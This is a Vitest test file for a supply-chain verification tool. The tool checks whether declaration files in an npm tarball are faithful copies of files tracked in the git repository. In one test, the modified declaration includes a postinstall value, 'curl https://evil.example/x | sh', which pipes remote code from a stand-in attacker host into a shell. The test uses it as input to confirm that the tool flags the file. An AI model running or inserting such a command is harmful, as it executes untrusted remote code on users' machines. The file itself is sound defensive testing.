/**
 * A declaration file the build copies from a tracked TypeScript file under another name (esbuild 0.23.1: its
 * scripts/esbuild.js writes lib/shared/types.ts as npm/esbuild/lib/main.d.ts; prettier 3.3.3 ships
 * src/document/public.d.ts as doc.d.ts). Both were TARBALL_ONLY_UNEXPLAINED high ("same content as … but where the
 * build compiles or runs it"): nothing runs a .d.ts, so the copy keeps its role (COPY_OF_TRACKED, low). A tagged
 * repository, the copy written untracked, packed by the real npm pack. Twins: one declaration changed in the copy
 * (no longer a copy), a test fixture shipped as a declaration, a script copied to a .d.ts, an executable .d.ts.
 */
import { chmodSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { npmPack } from '../helpers/npm-pack.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir('distdiff-npm-dts-copy-');
const cacheDir = join(root, 'cache');

const TYPES = 'export type Platform = "browser" | "node" | "neutral"\n\nexport interface BuildOptions {\n  platform?: Platform\n  bundle?: boolean\n}\n\nexport declare function build(options: BuildOptions): Promise<void>\n';
const FIXTURE = 'export declare const fixture: string\n';
const SCRIPT = 'export declare const tool: string\n';

let n = 0;
async function release(shipped: Record<string, string>, executable: string[] = []) {
  const dir = join(root, `pkg-${++n}`);
  const repo = makeRepo(dir);
  repo.commit({
    'package.json': JSON.stringify({ name: 'dtscopy', version: '1.0.0', main: 'index.js', types: 'lib/main.d.ts' }, null, 2) + '\n',
    'index.js': 'module.exports = { build() { return Promise.resolve() } }\n',
    'shared/types.ts': TYPES,
    'test/fixtures/thing.ts': FIXTURE,
    'scripts/tool.js': SCRIPT,
  });
  repo.tag('v1.0.0');
  writeFiles(dir, shipped);
  for (const p of executable) chmodSync(join(dir, p), 0o755);
  const packs = join(root, `packs-${n}`);
  mkdirSync(packs);
  const r = await verify({ tarball: npmPack(dir, packs, join(root, 'npm-cache')), repo: dir, cacheDir });
  return { r, at: (path: string) => r.findings.find((f) => f.path === path) };
}

describe('a declaration file copied from a tracked TypeScript file', () => {
  it('is a copy that keeps its role under another name (COPY_OF_TRACKED, low): exit 0', async () => {
    const { r, at } = await release({ 'lib/main.d.ts': TYPES });
    expect(at('lib/main.d.ts')).toMatchObject({ code: 'COPY_OF_TRACKED', severity: 'low', evidence: { source: 'shared/types.ts' } });
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
    expect(exitCodeOf(r.verdict)).toBe(0);
  }, 120_000);

  it('twin: one declaration changed in the copy stays TARBALL_ONLY_UNEXPLAINED high', async () => {
    const { r, at } = await release({ 'lib/main.d.ts': TYPES.replace('bundle?: boolean', 'bundle?: boolean\n  postinstall?: "curl https://evil.example/x | sh"') });
    expect(at('lib/main.d.ts')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  }, 120_000);

  it('twins: a test fixture, a script copied to a .d.ts, an executable .d.ts stay high, naming the source', async () => {
    const { r, at } = await release({ 'lib/fixture.d.ts': FIXTURE, 'lib/tool.d.ts': SCRIPT, 'lib/exec.d.ts': TYPES }, ['lib/exec.d.ts']);
    expect(at('lib/fixture.d.ts')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { copyOf: 'test/fixtures/thing.ts' } });
    expect(at('lib/tool.d.ts')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { copyOf: 'scripts/tool.js' } });
    expect(at('lib/exec.d.ts')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { copyOf: 'shared/types.ts' } });
    expect(exitCodeOf(r.verdict)).toBe(1);
  }, 120_000);
});
